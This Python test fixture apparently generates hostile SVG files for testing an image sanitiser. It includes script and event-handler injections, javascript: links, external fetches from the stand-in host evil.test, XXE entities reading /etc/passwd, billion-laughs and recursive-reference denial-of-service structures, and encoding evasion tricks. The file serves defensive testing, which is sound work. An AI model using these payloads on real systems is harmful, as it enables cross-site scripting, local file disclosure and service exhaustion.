"""Drawings that somebody might send: to run something, to fetch something, to break us.

Whatever of them is carried out sets ``hit``, and whatever is fetched is fetched from ``evil.test``.
"""

from __future__ import annotations

import gzip
from collections.abc import Iterator

HIT = "top.hit=1"
EVIL = "http://evil.test"
SVG, XLINK, XHTML = "http://www.w3.org/2000/svg", "http://www.w3.org/1999/xlink", "http://www.w3.org/1999/xhtml"
SHAPE = '<path d="M4 4h40v40H4z"/>'
FRAME = f'<svg xmlns="{SVG}" xmlns:xlink="{XLINK}" viewBox="0 0 48 48">%s</svg>'

Hostile = tuple[str, bytes]

EVENTS = ("onload", "onclick", "onerror", "onfocus", "onbegin", "onend", "onrepeat", "onmouseover",
          "onfocusin", "ONLOAD", "onresize", "onscroll", "onunload", "onactivate", "onanimationstart", "ontoggle",
          "onwheel")  # fmt: skip
SCRIPTS = (
    f"<script>{HIT}</script>",
    f"<script type='text/javascript'><![CDATA[{HIT}]]></script>",
    f"<script xlink:href='{EVIL}/a.js'/>",
    f"<script href='{EVIL}/a.js'/>",
    "<script href='data:text/javascript,top.hit=1'/>",
    f"<s:script xmlns:s='{SVG}'>{HIT}</s:script>",
    f"<h:script xmlns:h='{XHTML}'>{HIT}</h:script>",
    f"<g><defs><script>{HIT}</script></defs></g>",
    f"<symbol><script>{HIT}</script></symbol>",
    f"<text><script>{HIT}</script></text>",
    f"<title><script>{HIT}</script></title>",
    f"<metadata><h:script xmlns:h='{XHTML}'>{HIT}</h:script></metadata>",
    "<script>&#116;op.hit=1</script>",
    f"<unknown><script>{HIT}</script></unknown>",
    f"<switch><script>{HIT}</script></switch>",
    f"<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>{HIT}</handler>",
)
JAVASCRIPT = ("javascript:top.hit=1", "JaVaScRiPt:top.hit=1", "java\tscript:top.hit=1", "java&#10;script:top.hit=1",
              " javascript:top.hit=1", "&#1104;javascript:top.hit=1", "&#106;avascript:top.hit=1",
              "javascript&#58;top.hit=1", "vbscript:hit", "data:text/html,&lt;script&gt;top.hit=1&lt;/script&gt;",
              "java&#x200b;script:top.hit=1")  # fmt: skip
LINKS = (
    "<a xlink:href='%s'><rect width='48' height='48'/></a>",
    "<a href='%s'><rect width='48' height='48'/></a>",
    "<a><animate attributeName='href' values='%s' begin='0s'/><rect width='48' height='48'/></a>",
    "<a><set attributeName='xlink:href' to='%s'/><circle r='40'/></a>",
    "<use href='%s'/>",
)
PAGES = (
    f"<foreignObject width='48' height='48'><body xmlns='{XHTML}' onload='{HIT}'/></foreignObject>",
    f"<foreignObject><iframe xmlns='{XHTML}' srcdoc='&lt;script&gt;{HIT}&lt;/script&gt;'/></foreignObject>",
    f"<foreignObject><h:img xmlns:h='{XHTML}' src='x' onerror='{HIT}'/></foreignObject>",
    f"<iframe xmlns='{XHTML}' src='javascript:{HIT}'/>",
    f"<embed xmlns='{XHTML}' src='{EVIL}/x.swf'/>",
    f"<object xmlns='{XHTML}' data='{EVIL}/x'/>",
    f"<h:link xmlns:h='{XHTML}' rel='stylesheet' href='{EVIL}/x.css'/>",
    f"<h:style xmlns:h='{XHTML}'>@import url({EVIL}/x.css);</h:style>",
    f"<h:img xmlns:h='{XHTML}' src='{EVIL}/x.png'/>",
    f"<h:video xmlns:h='{XHTML}' src='{EVIL}/x.mp4' autoplay=''/>",
    f"<h:base xmlns:h='{XHTML}' href='{EVIL}/'/>",
    f"<h:meta xmlns:h='{XHTML}' http-equiv='refresh' content='0;url={EVIL}/'/>",
    f"<h:form xmlns:h='{XHTML}' action='{EVIL}/'><h:input autofocus='' /></h:form>",
)
INNER = FRAME.replace("'", "&apos;").replace('"', "&quot;").replace("<", "&lt;") % f"&lt;script>{HIT}&lt;/script>"
FETCHES = (
    f"<image href='{EVIL}/x.png' width='9' height='9'/>",
    "<image xlink:href='//evil.test/x.png' width='9' height='9'/>",
    "<image href='file:///etc/passwd' width='9' height='9'/>",
    f"<image href='data:image/svg+xml,{INNER}' width='9' height='9'/>",
    "<image href='data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=' width='9'/>",
    f"<feImage href='{EVIL}/x.png'/>",
    f"<filter id='f'><feImage href='{EVIL}/x.png'/></filter><rect width='9' height='9' filter='url(#f)'/>",
    f"<use href='{EVIL}/x.svg#a'/>",
    "<use href='data:image/svg+xml;base64,PHN2Zy8+#a'/>",
    f"<rect width='9' height='9' fill='url({EVIL}/x.svg#a)'/>",
    f"<rect width='9' height='9' fill='url(&quot;{EVIL}/x.svg#a&quot;) red'/>",
    f"<rect width='9' height='9' clip-path='url({EVIL}/x.svg#a)'/>",
    f"<rect width='9' height='9' mask='url({EVIL}/x.svg#a)'/>",
    f"<rect width='9' height='9' filter='url({EVIL}/x.svg#a)'/>",
    f"<path d='M0 0h9' marker-end='url({EVIL}/x.svg#a)'/>",
    f"<rect width='9' height='9' cursor='url({EVIL}/x.cur)'/>",
    f"<linearGradient id='a' href='{EVIL}/x.svg#b'/><rect width='9' height='9' fill='url(#a)'/>",
    f"<pattern id='a' href='{EVIL}/x.svg#b'/><rect width='9' height='9' fill='url(#a)'/>",
    f"<text><textPath href='{EVIL}/x.svg#a'>x</textPath></text>",
    f"<animateMotion><mpath href='{EVIL}/x.svg#a'/></animateMotion>",
    f"<g xml:base='{EVIL}/'><image href='x.png' width='9' height='9'/></g>",
    f"<video href='{EVIL}/x.mp4'/><audio href='{EVIL}/x.mp3'/>",
    f"<animate href='#x' attributeName='href' to='{EVIL}/x'/><image id='x' width='9' height='9'/>",
    f"<rect id='r' width='9' height='9'/><set href='#r' attributeName='fill' to='url({EVIL}/x#a)'/>",
    f"<svg width='9' height='9'><image href='{EVIL}/x.png' width='9' height='9'/></svg>",
)
STYLES = (
    f"@import '{EVIL}/x.css';",
    f"@import url({EVIL}/x.css);",
    f"@font-face {{ font-family: x; src: url({EVIL}/x.woff) }} text {{ font-family: x }}",
    f"path {{ fill: url({EVIL}/x.svg#a) }}",
    f"path {{ background: url({EVIL}/x.png) }}",
    f"path {{ background: image-set('{EVIL}/x.png' 1x) }}",
    f"path {{ fill: \\75rl({EVIL}/x.svg#a) }}",
    f"path {{ fill: u/**/rl({EVIL}/x.svg#a) }}",
    f"path {{ f\\69ll: url({EVIL}/x.svg#a) }}",
    "path { width: expression(top.hit=1) }",
    "path { behavior: url(#default#x); -moz-binding: url(http://evil.test/x#y) }",
    f"@media all {{ path {{ fill: url({EVIL}/x#a) }} }}",
    f"@namespace s url({EVIL}/);",
    f"]]&gt;&lt;/style&gt;&lt;script&gt;{HIT}&lt;/script&gt;",
    f"path {{ fill: red }} }} svg {{ background: url({EVIL}/x) }}",
    f"path:hover, path:not(x) {{ fill: url({EVIL}/x#a) }}",
    f"path {{ content: '}}'; fill: url({EVIL}/x#a) }}",
    f"* {{ cursor: url({EVIL}/x.cur), auto }}",
    f"path {{ --x: url({EVIL}/x); fill: var(--x) }}",
)
ATTRIBUTES = (
    f"fill='url({EVIL}/x#a)'", "fill='url(javascript:top.hit=1)'", "fill='url(data:image/svg+xml,x#a)'",
    "fill='u\\72l(http://evil.test/x#a)'", "fill='red;background:url(http://evil.test/x)'",
    "stroke='image(http://evil.test/x)'",
    "transform='rotate(1) url(http://evil.test/x)'", "stroke-width='1e308'", "stroke-dasharray='1e-308 1e308'",
    "clip-path='url(#x) url(http://evil.test/x#a)'", "fill='var(--x)'",
    "fill='&quot;&gt;&lt;script&gt;top.hit=1&lt;/script&gt;'",
    "id='&quot;&gt;&lt;script&gt;'", "class='&lt;script&gt;'", "style='fill:url(http://evil.test/x#a)'",
    "style='&#92;66ill:red;background:url(http://evil.test/x)'", "style='fill:red;}*{background:url(http://evil.test/x)'",
    "d='M0 0 url(http://evil.test)'", "stroke-width='９'", "transform='matrix(1e99 0 0 1e99 0 0)'",
)  # fmt: skip
LAUGHS = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
DOCTYPES = (
    (f"<!DOCTYPE svg [<!ENTITY l0 'ha'>{LAUGHS}]>", "<desc>&l9;</desc>"),
    ("<!DOCTYPE svg [<!ENTITY a '" + "a" * 50_000 + "'>]>", "<desc>" + "&a;" * 5_000 + "</desc>"),
    ("<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "<desc>&x;</desc>"),
    (f"<!DOCTYPE svg [<!ENTITY x SYSTEM '{EVIL}/x'>]>", "<desc>&x;</desc>"),
    (f"<!DOCTYPE svg [<!ENTITY % x SYSTEM '{EVIL}/x.dtd'> %x;]>", ""),
    (f"<!DOCTYPE svg SYSTEM '{EVIL}/x.dtd'>", ""),
    (f"<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' '{EVIL}/svg11.dtd'>", "<desc>&unknown;</desc>"),
    (f"<!DOCTYPE svg [<!ATTLIST svg onload CDATA '{HIT}'>]>", ""),
    (f"<!DOCTYPE svg [<!ENTITY s '&#60;script&#62;{HIT}&#60;/script&#62;'>]>", "&s;"),
    ("<!DOCTYPE svg [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>", "<desc>&a;</desc>"),
    (f"<?xml-stylesheet href='{EVIL}/x.css'?>", ""),
    (f"<?xml-stylesheet type='text/xsl' href='{EVIL}/x.xsl'?>", ""),
    ("<?php echo 1 ?>", ""),
)
CHAIN = "".join(
    f"<g id='u{n}'>{f'<use href=&quot;#u{n - 1}&quot;/>'.replace('&quot;', chr(34)) * 10}</g>" for n in range(1, 12)
)
STRUCTURES = (
    "<g>" * 20_000 + SHAPE + "</g>" * 20_000,
    "<g>" * 40 + SHAPE + "</g>" * 40,
    SHAPE * 20_000,
    f"<g id='u0'>{SHAPE}</g>{CHAIN}<use href='#u11'/>",
    f"<g id='a'>{SHAPE * 900}</g>" + "<use href='#a'/>" * 900,
    f"<clipPath id='a'>{SHAPE * 900}</clipPath>" + "<path d='M0 0h9' clip-path='url(#a)'/>" * 900,
    "<g id='a'><use href='#a'/></g>",
    "<g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g>",
    "<clipPath id='a'><path d='M0 0h9v9z' clip-path='url(#a)'/></clipPath><path d='M0 0h9v9z' clip-path='url(#a)'/>",
    "<linearGradient id='a' href='#b'/><linearGradient id='b' href='#a'/><path d='M0 0h9v9z' fill='url(#a)'/>",
    "<pattern id='a' width='1'><rect fill='url(#a)' width='9'/></pattern><rect fill='url(#a)' width='9' height='9'/>",
    "<path d='" + "M0 0h1" * 60_000 + "'/>",
    "<path d='M1e309 NaN Infinity'/>",
    "<path d='M99999999999 0h1'/>",
    "<path " + " ".join(f"a{n}='x'" for n in range(20_000)) + "/>",
    f"<path class='{'a ' * 100_000}' d='M0 0h9'/>",
    "<style>" + ".a{fill:red}" * 30_000 + "</style><path class='a' d='M0 0h9'/>",
    "<path d='M0 0h9' stroke-dasharray='.0001' stroke-width='9'/>" * 50,
    "<rect width='-5' height='1e6' rx='-1'/>",
    "<desc>" + "x" * 600_000 + "</desc>",
    "<text>only words</text>",
    "",
)
ROOTS = (
    f"<svg xmlns='{SVG}'>{SHAPE}</svg>",
    f"<svg viewBox='0 0 48 48'>{SHAPE}</svg>",
    f"<svg xmlns='{SVG}' viewBox='0 0 0 0'>{SHAPE}</svg>",
    f"<svg xmlns='{SVG}' viewBox='0 0 1e400 1'>{SHAPE}</svg>",
    f"<svg xmlns='{SVG}' viewBox='0 0 nan nan'>{SHAPE}</svg>",
    f"<svg xmlns='{SVG}' viewBox='0 0 1 900'>{SHAPE}</svg>",
    f"<svg xmlns='{SVG}' width='999999999' height='999999999'>{SHAPE}</svg>",
    f"<svg xmlns='{SVG}' width='1..2' height='url({EVIL})'>{SHAPE}</svg>",
    f"<html xmlns='{XHTML}'><body><svg xmlns='{SVG}' viewBox='0 0 9 9'/><script>{HIT}</script></body></html>",
    f"<html><body onload='{HIT}'>",
    f"<!doctype html><script>{HIT}</script>",
    "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'/>",
    f"<math xmlns='http://www.w3.org/1998/Math/MathML'><mi l:href='javascript:{HIT}' xmlns:l='{XLINK}'/></math>",
    f"<g xmlns='{SVG}'>{SHAPE}</g>",
    f"<s:svg xmlns:s='{SVG}' viewBox='0 0 9 9'><s:path d='M0 0h9'/><script>{HIT}</script></s:svg>",
    f"<svg xmlns='{SVG}' viewBox='0 0 9 9'>{SHAPE}</svg><script>{HIT}</script>",
    f"<svg xmlns='{SVG}' viewBox='0 0 9 9'>{SHAPE}",
    "<", "<<<<>>>>", "<svg", "<?xml version='1.0'?>", f"<svg xmlns='{SVG}' viewBox='0 0 9 9'><script>{HIT}//",
)  # fmt: skip


def drawings() -> Iterator[Hostile]:
    """SVG, and what is called so."""
    for number, script in enumerate(SCRIPTS):
        yield f"script-{number}.svg", (FRAME % (SHAPE + script)).encode()
    for event in EVENTS:
        yield f"event-{event}.svg", (FRAME % f"{SHAPE}<g {event}='{HIT}'>{SHAPE}</g>").encode()
    yield "event-root.svg", f"<svg xmlns='{SVG}' viewBox='0 0 9 9' onload='{HIT}'>{SHAPE}</svg>".encode()
    for number, address in enumerate(JAVASCRIPT):
        for at, anchor in enumerate(LINKS):
            if number == 0 or at == number % len(LINKS):
                yield f"link-{number}-{at}.svg", (FRAME % (SHAPE + anchor % address)).encode()
    for kind, bodies in (("page", PAGES), ("fetch", FETCHES), ("structure", STRUCTURES)):
        for number, inside in enumerate(bodies):
            shape = "" if kind == "structure" else SHAPE
            yield f"{kind}-{number}.svg", (FRAME % (shape + inside)).encode()
    for number, style in enumerate(STYLES):
        yield f"style-{number}.svg", (FRAME % f"<style>{style}</style>{SHAPE}").encode()
    for number, attribute in enumerate(ATTRIBUTES):
        place = "<path " if attribute.startswith("d=") else "<path d='M4 4h40v40z' "
        yield f"attribute-{number}.svg", (FRAME % f"{SHAPE}{place}{attribute}/>").encode()
    for number, (doctype, body) in enumerate(DOCTYPES):
        yield f"doctype-{number}.svg", (doctype + FRAME % (SHAPE + body)).encode()
    for number, root in enumerate(ROOTS):
        yield f"root-{number}.svg", root.encode()


def encoded() -> Iterator[Hostile]:
    """Drawings with a script, written so that one reader sees it and another does not."""
    drawing = FRAME % f"{SHAPE}<script>{HIT}</script>"
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp500", "cp037"):
        yield f"in-{encoding}.svg", drawing.encode(encoding)
        yield f"said-{encoding}.svg", f"<?xml version='1.0' encoding='{encoding}'?>{drawing}".encode(encoding)
    hidden = FRAME % f"{SHAPE}<desc>+ADw-script+AD4-{HIT}+ADw-/script+AD4-</desc>"
    for encoding in ("utf-7", "iso-2022-jp", "hz", "shift_jis", "x-user-defined", "no-such-encoding"):
        yield f"claims-{encoding}.svg", f"<?xml version='1.0' encoding='{encoding}'?>{hidden}".encode()
    yield "null-bytes.svg", (FRAME % f"{SHAPE}<scr\0ipt>{HIT}</scr\0ipt>").encode()
    yield "null-before.svg", b"\0" + drawing.encode()
    yield "overlong.svg", drawing.encode().replace(b"<script", b"\xc0\xbcscript")
    yield "latin.svg", (FRAME % f"<desc>\xe9</desc>{SHAPE}").encode("latin-1")
    yield "bom.svg", b"\xef\xbb\xbf" + drawing.encode()
    yield "packed.svgz", gzip.compress(drawing.encode())
    yield "control.svg", (FRAME % f"{SHAPE}<desc>\x01\x02</desc>").encode()
